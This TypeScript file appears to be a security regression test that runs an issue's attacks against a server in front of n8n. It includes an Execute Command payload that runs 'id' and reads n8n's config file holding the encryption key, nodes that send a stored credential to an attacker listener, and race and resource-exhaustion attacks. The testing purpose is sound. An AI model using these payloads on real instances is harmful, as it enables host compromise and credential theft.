/**
 * Issue 39's attacks, tried as an attacker would against this server in front of a real n8n, each with
 * the lowest scope that once was enough: commands and files on the n8n host, a stored credential's
 * secret sent to a listener of the attacker's, changes of two callers at once, a put-back over another's
 * change, a test run that undoes an activation, answers and a history that grow without bound, stored
 * tests for nothing, and the smaller ones. Each answers "refused" or "reproduced" by what n8n holds,
 * what the listener received and what the answer said, never by the words of a refusal, so that the
 * same attacks run against the commit before tell what it let through (`--url`, `--n8n-url`).
 */
import { startListener } from '../lib/listener.ts';
import type { Client, Outcome, ToolAnswer } from './client.ts';

export interface N8nAccess {
  url: string;
  apiKey: string;
}

type Json = Record<string, any>;
/** A client with a key of these scopes (comma-separated). */
type Keyed = (scopes: string) => Promise<Client>;

const pause = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
const clip = (text: string | undefined, n = 160) => (text ?? 'no answer').replace(/\s+/g, ' ').slice(0, n);
const said = (answer: ToolAnswer | null) => (answer ? `${answer.isError ? 'error' : 'ok'} in ${answer.ms} ms: ${clip(answer.text)}` : 'no answer');

/** n8n's own API, as the instance's owner (what an attacker does not have: fixtures and read-backs). */
function n8nApi(n8n: N8nAccess) {
  return async (method: string, path: string, body?: unknown): Promise<Json> => {
    const response = await fetch(`${n8n.url}/api/v1${path}`, {
      method,
      headers: { 'x-n8n-api-key': n8n.apiKey, 'content-type': 'application/json' },
      ...(body === undefined ? {} : { body: JSON.stringify(body) }),
    });
    const text = await response.text();
    if (!response.ok) throw new Error(`${method} ${path}: ${response.status} ${text.slice(0, 200)}`);
    return text ? (JSON.parse(text) as Json) : {};
  };
}

const webhook = (path: string, responseMode = 'lastNode') => ({
  name: 'Hook',
  type: 'n8n-nodes-base.webhook',
  typeVersion: 2,
  webhookId: crypto.randomUUID(),
  position: [0, 0],
  parameters: { path, httpMethod: 'POST', responseMode, options: {} },
});
const wait = (seconds: number) => ({
  name: 'Wait',
  type: 'n8n-nodes-base.wait',
  typeVersion: 1.1,
  webhookId: crypto.randomUUID(),
  position: [200, 0],
  parameters: { amount: seconds, unit: 'seconds' },
});
const noOp = (name: string) => ({ name, type: 'n8n-nodes-base.noOp', typeVersion: 1, position: [400, 0], parameters: {} });
const chain = (name: string, ...nodes: Json[]) => ({
  name,
  nodes: nodes.map((node, i) => ({ position: [220 * i, 0], ...node })),
  connections: Object.fromEntries(nodes.slice(1).map((node, i) => [nodes[i]!.name, { main: [[{ node: node.name, type: 'main', index: 0 }]] }])),
  settings: { executionOrder: 'v1' },
});

export async function n8nAttacks(keyed: Keyed, n8n: N8nAccess): Promise<Outcome[]> {
  const api = n8nApi(n8n);
  const out: Outcome[] = [];
  const writer = await keyed('workflows:write,workflows:read,executions:read');
  const other = await keyed('workflows:write,workflows:read,executions:read');
  const everything = await keyed('*');

  // A listener of the attacker's: what reaches it.
  const listener = await startListener();
  const { received, url: listenerUrl } = listener;
  const ids = new Set<string>();
  try {
    // 1. Commands, files and the environment of the n8n host, with workflows:write.
    // Its output says it ran: the shell's arithmetic, and n8n's encryption key from its config file.
    const command = {
      name: 'Cmd',
      type: 'n8n-nodes-base.executeCommand',
      typeVersion: 1,
      parameters: { command: 'echo ran-$((6*7)); id; cat "$N8N_USER_FOLDER/.n8n/config"' },
    };
    const ran = (text: string | undefined) => /ran-42|encryptionKey/.test(text ?? '');
    const tried = await writer.tool('try_nodes', { nodes: [command] });
    out.push({
      finding: '39.1 host',
      attack: 'try_nodes with Execute Command "id; cat …/.n8n/config" (workflows:write)',
      refused: !ran(tried?.text),
      detail: said(tried),
    });
    const path = `hostile-${crypto.randomUUID()}`;
    const saved = await writer.tool('create_workflow', { workflow: chain(`hostile command ${path}`, webhook(path), { ...command, name: 'Cmd' }) });
    if (saved?.json?.id) ids.add(saved.json.id);
    const activated = saved?.json?.id ? await writer.tool('activate_workflow', { id: saved.json.id }) : null;
    const publicCall = await fetch(`${n8n.url}/webhook/${path}`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' }).then((r) =>
      r.text(),
    );
    out.push({
      finding: '39.1 host',
      attack: 'create_workflow + activate_workflow: a public webhook that runs Execute Command (workflows:write)',
      refused: !ran(publicCall),
      detail: `create ${said(saved)}; activate ${said(activated)}; the webhook answered ${clip(publicCall, 80)}`,
    });
    const env = { name: 'Env', type: 'n8n-nodes-base.code', typeVersion: 2, parameters: { jsCode: 'return [{ json: { folder: $env.N8N_USER_FOLDER } }];' } };
    const envRead = await writer.tool('try_nodes', { nodes: [env] });
    out.push({
      finding: '39.1 host',
      attack: 'try_nodes with a Code node reading $env (workflows:write)',
      refused: !/n8n-user-/.test(envRead?.text ?? ''),
      detail: said(envRead),
    });

    // 2. A stored credential's secret to the attacker's listener, with workflows:write.
    const credential = await api('POST', '/credentials', {
      name: `Hostile header ${crypto.randomUUID()}`,
      type: 'httpHeaderAuth',
      data: { name: 'X-Secret', value: 'TOPSECRET' },
    });
    const leak = (label: string, node: Json) => ({ label, node });
    const generic = { authentication: 'genericCredentialType', genericAuthType: 'httpHeaderAuth' };
    const leaks = [
      leak('HTTP Request, header auth, the credential by id', {
        parameters: { url: `${listenerUrl}/a`, ...generic },
        credentials: { httpHeaderAuth: { id: credential.id } },
      }),
      leak('the same, the credential by name', {
        parameters: { url: `${listenerUrl}/b`, ...generic },
        credentials: { httpHeaderAuth: { name: credential.name } },
      }),
      leak('HTTP Request with predefinedCredentialType', {
        parameters: { url: `${listenerUrl}/c`, authentication: 'predefinedCredentialType', nodeCredentialType: 'httpHeaderAuth' },
        credentials: { httpHeaderAuth: { id: credential.id } },
      }),
    ];
    for (const { label, node } of leaks) {
      received.length = 0;
      const answer = await writer.tool('try_nodes', {
        nodes: [{ name: 'Leak', type: 'n8n-nodes-base.httpRequest', typeVersion: 4.2, ...node, parameters: { ...node.parameters, options: {} } }],
      });
      out.push({
        finding: '39.2 credentials',
        attack: `try_nodes: ${label}, sent to a listener (workflows:write)`,
        refused: !received.some((r) => r.includes('TOPSECRET')),
        detail: `${said(answer)}; the listener received ${received.length} request(s)${received.some((r) => r.includes('TOPSECRET')) ? ', with the secret' : ''}`,
      });
    }
    received.length = 0;
    const graphql = await writer.tool('try_nodes', {
      nodes: [
        {
          name: 'Leak',
          type: 'n8n-nodes-base.graphql',
          typeVersion: 1.1,
          parameters: { endpoint: `${listenerUrl}/graphql`, authentication: 'headerAuth', query: '{ a }' },
          credentials: { httpHeaderAuth: { id: credential.id } },
        },
      ],
    });
    out.push({
      finding: '39.2 credentials',
      attack: "try_nodes: a GraphQL node (an app node with an endpoint of the caller's) with the credential (workflows:write)",
      refused: !received.some((r) => r.includes('TOPSECRET')),
      detail: `${said(graphql)}; the listener received ${received.length} request(s)`,
    });

    // 3. Two keys editing one workflow at the same instant.
    const shared = await api('POST', '/workflows', chain(`hostile turns ${crypto.randomUUID()}`, webhook(`turns-${crypto.randomUUID()}`)));
    ids.add(shared.id);
    const rounds = 6;
    let made = 0;
    let clashes = 0;
    for (let round = 0; round < rounds; round++) {
      const answers = await Promise.all([
        writer.tool('edit_workflow', { id: shared.id, operations: [{ type: 'addNode', node: noOp(`A${round}`) }] }, 120_000, 'modern'),
        other.tool('edit_workflow', { id: shared.id, operations: [{ type: 'addNode', node: noOp(`B${round}`) }] }, 120_000, 'modern'),
      ]);
      for (const answer of answers) {
        if (answer?.json?.saved === true) made++;
        else clashes++;
      }
    }
    const names = ((await api('GET', `/workflows/${shared.id}`)).nodes as Json[]).map((n) => n.name as string);
    const saidSaved = made;
    const present = Array.from({ length: rounds }, (_, r) => [`A${r}`, `B${r}`])
      .flat()
      .filter((n) => names.includes(n)).length;
    const versions = await writer.tool('list_workflow_versions', { id: shared.id, limit: 200 });
    const versionIds = ((versions?.json?.versions ?? []) as Json[]).map((v) => v.versionId);
    out.push({
      finding: '39.3 concurrency',
      attack: `${rounds} rounds of two keys sending edit_workflow (addNode) to one workflow at the same instant (2026-07-28 requests)`,
      refused: saidSaved === present,
      detail: `${rounds * 2} changes sent, ${saidSaved} answered saved, ${present} in n8n afterwards: ${saidSaved - present} lost, ${clashes} refused as clashes; ${versionIds.length} versions kept, ${new Set(versionIds).size} distinct`,
    });

    // 4. A put-back after failed tests, over another key's change made meanwhile.
    const slowPath = `hostile-slow-${crypto.randomUUID()}`;
    const slow = await api('POST', '/workflows', chain(`hostile put-back ${slowPath}`, webhook(slowPath), wait(8)));
    ids.add(slow.id);
    await writer.tool('save_workflow_test', { id: slow.id, test: { name: 'fails', expect: { status: 201 } } });
    const [a, b] = await Promise.all([
      writer.tool('edit_workflow', { id: slow.id, operations: [{ type: 'addNode', node: noOp('From A') }], runTests: true }, 120_000, 'modern'),
      pause(3_000).then(() =>
        other.tool(
          'edit_workflow',
          {
            id: slow.id,
            operations: [
              { type: 'updateName', name: 'Renamed by B' },
              { type: 'addNode', node: noOp('From B') },
            ],
          },
          120_000,
          'modern',
        ),
      ),
    ]);
    const afterPutBack = await api('GET', `/workflows/${slow.id}`);
    const bLost = b?.json?.saved === true && !(afterPutBack.nodes as Json[]).some((n) => n.name === 'From B');
    out.push({
      finding: '39.4 put-back',
      attack: 'edit_workflow with runTests (the test fails after an 8 s Wait); another key renames and adds a node 3 s in (2026-07-28 requests)',
      refused: !bLost,
      detail: `A: ${said(a)}; B: ${said(b)}; n8n now: "${afterPutBack.name}", ${(afterPutBack.nodes as Json[]).map((n) => n.name).join(', ')}`,
    });

    // 5. test_workflow deactivates a workflow another key activated during the run.
    const runPath = `hostile-run-${crypto.randomUUID()}`;
    const inactive = await api('POST', '/workflows', chain(`hostile activation ${runPath}`, webhook(runPath), wait(4)));
    ids.add(inactive.id);
    const [tested, activation] = await Promise.all([
      writer.tool('test_workflow', { id: inactive.id, waitSeconds: 30 }, 120_000, 'modern'),
      pause(2_000).then(() => other.tool('activate_workflow', { id: inactive.id }, 120_000, 'modern')),
    ]);
    const activeAfter = (await api('GET', `/workflows/${inactive.id}`)).active === true;
    out.push({
      finding: '39.5 active state',
      attack: 'test_workflow of an inactive workflow (a 4 s Wait); another key activates it 2 s in (2026-07-28 requests)',
      refused: activation?.json?.active !== true || activeAfter,
      detail: `activate_workflow: ${said(activation)}; test: ${clip(JSON.stringify(tested?.json?.workflow ?? tested?.text))}; active afterwards: ${activeAfter}`,
    });

    // 6. Large answers: a ~10 MB execution, and executions listed with their data.
    const bigPath = `hostile-big-${crypto.randomUUID()}`;
    const big = await api(
      'POST',
      '/workflows',
      chain(`hostile big ${bigPath}`, webhook(bigPath, 'onReceived'), {
        name: 'Big',
        type: 'n8n-nodes-base.code',
        typeVersion: 2,
        parameters: { jsCode: "return Array.from({ length: 100 }, (_, i) => ({ json: { i, text: 'x'.repeat(100000) } }));" },
      }),
    );
    ids.add(big.id);
    await api('POST', `/workflows/${big.id}/activate`);
    await fetch(`${n8n.url}/webhook/${bigPath}`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' }).then((r) => r.text());
    let execution: Json | undefined;
    for (let i = 0; i < 30 && !execution; i++) {
      execution = ((await api('GET', `/executions?workflowId=${big.id}`)).data as Json[]).find((e) => e.finished || e.status === 'success');
      if (!execution) await pause(1_000);
    }
    const reader = await keyed('executions:read');
    const full = execution ? await reader.tool('get_execution', { id: String(execution.id), includeData: true, fullData: true }, 90_000) : null;
    out.push({
      finding: '39.6 answer size',
      attack: 'get_execution with includeData and fullData of a ~10 MB execution, on a 2025 session',
      refused: full !== null && full.bytes < 2_000_000,
      detail: full ? `answered in ${full.ms} ms, ${(full.bytes / 1e6).toFixed(2)} MB: ${clip(full.text, 120)}` : 'no answer in 90 s',
    });
    const listed = await reader.tool('list_executions', { includeData: true, fullData: true, limit: 10 }, 90_000);
    out.push({
      finding: '39.6 answer size',
      attack: 'list_executions with includeData, fullData and limit 10 (86 bytes of arguments)',
      refused: listed !== null && listed.bytes < 2_000_000,
      detail: listed ? `answered in ${listed.ms} ms, ${(listed.bytes / 1e6).toFixed(2)} MB` : 'no answer in 90 s',
    });

    // 7. The history grows with changes that change nothing.
    const bulky = await api(
      'POST',
      '/workflows',
      chain(`hostile bulky ${crypto.randomUUID()}`, webhook(`bulky-${crypto.randomUUID()}`), {
        name: 'Bulky',
        type: 'n8n-nodes-base.set',
        typeVersion: 3.4,
        parameters: {
          assignments: { assignments: Array.from({ length: 130 }, (_, i) => ({ id: `a${i}`, name: `f${i}`, value: 'y'.repeat(10_000), type: 'string' })) },
          options: {},
        },
      }),
    );
    ids.add(bulky.id);
    const kept = async () => ((await writer.tool('list_workflow_versions', { id: bulky.id, limit: 200 }))?.json?.versions ?? []) as Json[];
    const before = (await kept()).length;
    for (let i = 0; i < 6; i++) await writer.tool('deactivate_workflow', { id: bulky.id });
    const added = (await kept()).slice(0, (await kept()).length - before);
    out.push({
      finding: '39.7 history',
      attack: `deactivate_workflow six times on an inactive ${(JSON.stringify(bulky).length / 1e6).toFixed(2)} MB workflow`,
      refused: added.length === 0,
      detail: `${added.length} versions kept (${added.reduce((sum, v) => sum + (v.bytes ?? 0), 0).toLocaleString('en-US')} bytes of workflow JSON)`,
    });

    // The same, with changes that do change it: a small rename, each keeping a version of a workflow that does not compress.
    const noise = (n: number) => Array.from({ length: n / 8 }, () => Math.random().toString(36).slice(2, 10)).join('');
    const dense = await api(
      'POST',
      '/workflows',
      chain(`hostile dense ${crypto.randomUUID()}`, webhook(`dense-${crypto.randomUUID()}`), {
        name: 'Dense',
        type: 'n8n-nodes-base.set',
        typeVersion: 3.4,
        parameters: {
          assignments: { assignments: Array.from({ length: 13 }, (_, i) => ({ id: `a${i}`, name: `f${i}`, value: noise(100_000), type: 'string' })) },
          options: {},
        },
      }),
    );
    ids.add(dense.id);
    let sent = 0;
    let refusedAt: string | undefined;
    for (let i = 0; i < 12 && !refusedAt; i++) {
      const args = { id: dense.id, operations: [{ type: 'updateName', name: `Dense ${i}` }] };
      sent += JSON.stringify(args).length;
      const renamed = await writer.tool('edit_workflow', args);
      if (renamed?.json?.saved !== true) refusedAt = `rename ${i + 1}: ${clip(renamed?.text, 200)}`;
    }
    const denseVersions = ((await writer.tool('list_workflow_versions', { id: dense.id, limit: 200 }))?.json?.versions ?? []) as Json[];
    const keptBytes = denseVersions.reduce((sum, v) => sum + (v.bytes ?? 0), 0);
    out.push({
      finding: '39.7 history',
      attack: `up to 12 renames of a ${(JSON.stringify(dense).length / 1e6).toFixed(2)} MB workflow that does not compress (the server's HISTORY_CALLER_MB: 8)`,
      refused: refusedAt !== undefined,
      detail: `${(keptBytes / 1e6).toFixed(1)} MB of versions kept for ${sent.toLocaleString('en-US')} bytes sent (${Math.round(keptBytes / sent).toLocaleString('en-US')} per byte); ${refusedAt ?? 'never refused'}`,
    });

    // 8. Stored tests for nothing, and of any size.
    const orphan = await writer.tool('save_workflow_test', { id: 'hostileNoSuchId1', test: { name: 'orphan' } });
    out.push({
      finding: '39.8 stored tests',
      attack: 'save_workflow_test for a workflow that does not exist',
      refused: orphan?.json?.saved !== true,
      detail: said(orphan),
    });
    const huge = await writer.tool('save_workflow_test', { id: shared.id, test: { name: 'huge', payload: { text: 'z'.repeat(1_000_000) } } });
    out.push({ finding: '39.8 stored tests', attack: 'save_workflow_test with a 1 MB payload', refused: huge?.json?.saved !== true, detail: said(huge) });

    // 9. A busy Code node that outlives try_nodes' wait.
    const busy = await everything.tool('try_nodes', {
      nodes: [
        {
          name: 'Busy',
          type: 'n8n-nodes-base.code',
          typeVersion: 2,
          parameters: { jsCode: 'const end = Date.now() + 2500; while (Date.now() < end) {} return [{ json: { done: true } }];' },
        },
      ],
      waitSeconds: 1,
    });
    out.push({
      finding: '39.9 busy code',
      attack: 'try_nodes: a Code node busy for 2.5 s with waitSeconds 1 (every scope)',
      refused: !/and n8n stopped it/.test(busy?.text ?? ''),
      detail: said(busy),
    });

    // 10. The smaller ones.
    const slowTry = everything.tool('try_nodes', { nodes: [{ ...wait(8), name: 'Slow' }], waitSeconds: 20 });
    await pause(1_500);
    const quick = await other.tool('list_workflows', { limit: 1 });
    await slowTry;
    out.push({
      finding: '39.10 fairness',
      attack: "list_workflows by one key while another key's try_nodes (an 8 s Wait) runs",
      refused: quick !== null && quick.ms < 3_000,
      detail: quick ? `list_workflows answered in ${quick.ms} ms` : 'no answer',
    });
    const tagsReader = await keyed('tags:read');
    for (const uri of ['NODE-SPEC://ACTION_NODE/n8n-nodes-base.code', ' node-spec://ACTION_NODE/n8n-nodes-base.code']) {
      const read = await tagsReader.post(await tagsReader.session(), { jsonrpc: '2.0', id: 5, method: 'resources/read', params: { uri } });
      out.push({
        finding: '39.10 resource scope',
        attack: `resources/read ${JSON.stringify(uri)} with tags:read`,
        refused: !/"contents"/.test(read?.text ?? ''),
        detail: clip(read?.text),
      });
    }
    const failing = await api(
      'POST',
      '/workflows',
      chain(`hostile stack ${crypto.randomUUID()}`, webhook(`stack-${crypto.randomUUID()}`, 'onReceived'), {
        name: 'Throws',
        type: 'n8n-nodes-base.code',
        typeVersion: 2,
        parameters: { jsCode: "throw new Error('boom');" },
      }),
    );
    ids.add(failing.id);
    await api('POST', `/workflows/${failing.id}/activate`);
    const failingPath = (failing.nodes as Json[])[0]!.parameters.path;
    await fetch(`${n8n.url}/webhook/${failingPath}`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' }).then((r) => r.text());
    await pause(2_000);
    const failed = ((await api('GET', `/executions?workflowId=${failing.id}`)).data as Json[])[0];
    const stack = failed ? await reader.tool('get_execution', { id: String(failed.id), includeData: true }) : null;
    out.push({
      finding: '39.10 stack traces',
      attack: 'get_execution with includeData of a failed execution',
      refused: stack !== null && !/\n\s+at |node_modules|\/\.n8n\//.test(stack.text.replace(/\\n/g, '\n')),
      detail: stack ? clip(stack.text.match(/.{0,60}(node_modules|\s+at ).{0,60}/)?.[0] ?? 'no stack, no install path') : 'no execution',
    });
    const tag = `hostile-${crypto.randomUUID().slice(0, 8)}`;
    await writer.tool('edit_workflow', { id: shared.id, operations: [{ type: 'addTag', tag }] });
    const tags = ((await api('GET', '/tags?limit=250')).data as Json[]).map((t) => t.name);
    out.push({
      finding: '39.10 tags',
      attack: 'edit_workflow addTag of a new tag without tags:write',
      refused: !tags.includes(tag),
      detail: tags.includes(tag) ? `tag "${tag}" was created` : 'no tag was created',
    });
  } finally {
    await listener.close();
    for (const id of ids) await api('DELETE', `/workflows/${id}`).catch(() => {});
  }
  return out;
}
